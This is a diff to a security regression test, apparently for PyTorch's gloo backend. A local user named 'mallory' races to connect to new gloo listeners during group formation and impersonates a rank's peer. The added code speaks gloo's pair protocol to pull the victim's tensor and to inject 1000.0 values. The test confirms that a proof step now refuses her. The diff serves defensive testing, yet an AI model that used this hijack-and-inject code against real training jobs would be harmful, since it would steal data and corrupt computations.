@@ -6,12 +6,13 @@ round (`new_group([0, 1])`, as a mesh's subgroups are made) and all-reduce a ten
 easy to spot. One rank loads its data for 2 s before each round (the late one alternates), so the
 early rank's new gloo listener waits for its peer. mallory (a throwaway local user) connects to each
 new listener the moment it appears and names the pair's sequence number, as gloo's own peer does
-(8 bytes): where the early rank is the pair's listening side, gloo gives her its peer's place. She
-reads what comes for 1 s, then closes everything and stops. The test names the job's new ports to
+(8 bytes): where the early rank is the pair's listening side, gloo gives her its peer's place. There
+she speaks gloo's pair protocol as the peer (asks for what the rank is ready to send, sends 1000.0s
+where it is ready to receive) for 1 s, then closes everything and stops. The test names the job's new ports to
 her (she would find them with sock_diag by uid; here no other process's sockets are touched). Before
-later groups proved themselves the early rank all-reduced its tensor to her and the job ended on
-"connection closed"; now the group is refused (one line, a count), formed again with the real peer,
-and she sees only the proof.
+later groups proved themselves she read the job's tensor (10 times, in one run) and the job ended on
+"connection closed"; now she gets only the proof's 32 bytes, her proof is refused (one line, a
+count), the group is formed again with the real peer and the job keeps every sum.
 """
 
 from __future__ import annotations
@@ -64,6 +65,25 @@ uid, mark = json.loads(first)
 os.setgroups([]); os.setresgid(uid, uid, uid); os.setresuid(uid, uid, uid)  # mallory, from here on
 mark = bytes.fromhex(mark)
 conns, got, stolen, tried, errors, until = {}, b"", None, [], [], None
+buf, payloads = {}, b""
+HEADER = struct.Struct("<6Q")  # gloo tcp Op: nbytes, opcode, slot, offset, length, roffset
+
+
+def answer(f):
+    # Speak gloo's pair protocol as the peer: ask for what the victim is ready to send (its data
+    # follows), and send 1000.0s where it is ready to receive.
+    global payloads
+    while len(buf[f]) >= HEADER.size:
+        nbytes, opcode, slot, offset, length, roffset = HEADER.unpack_from(buf[f])
+        if len(buf[f]) < nbytes:
+            return
+        payloads += buf[f][HEADER.size:nbytes]
+        buf[f] = buf[f][nbytes:]
+        if opcode == 2:  # NOTIFY_SEND_READY: tell it to send
+            f.sendall(HEADER.pack(HEADER.size, 3, slot, 0, length, 0))
+        elif opcode == 3:  # NOTIFY_RECV_READY: send it hers
+            hers = struct.pack("<f", 1000.0) * (length // 4)
+            f.sendall(HEADER.pack(HEADER.size + length, 1, slot, 0, length, 0) + hers)
 print("ready", flush=True)
 while True:
     ready, _, _ = select.select([0, *conns], [], [], 0.05)
@@ -75,8 +95,8 @@ while True:
     for line in lines:
         line = line.decode().strip()
         if line == "stop":
-            print(json.dumps({"stolen": stolen, "bytes": len(got), "marks": got.count(mark), "tried": tried,
-                              "errors": errors[:5]}), flush=True)
+            print(json.dumps({"stolen": stolen, "bytes": len(got), "marks": payloads.count(mark),
+                              "payload": len(payloads), "tried": tried, "errors": errors[:5]}), flush=True)
             sys.exit(0)
         if not line or stolen is not None:
             continue
@@ -96,6 +116,8 @@ while True:
                 data = b""
             if data:
                 got += data
+                buf[f] = buf.get(f, b"") + data
+                answer(f)
                 if stolen is None:
                     stolen, until = conns[f], time.monotonic() + 1.0
             else:
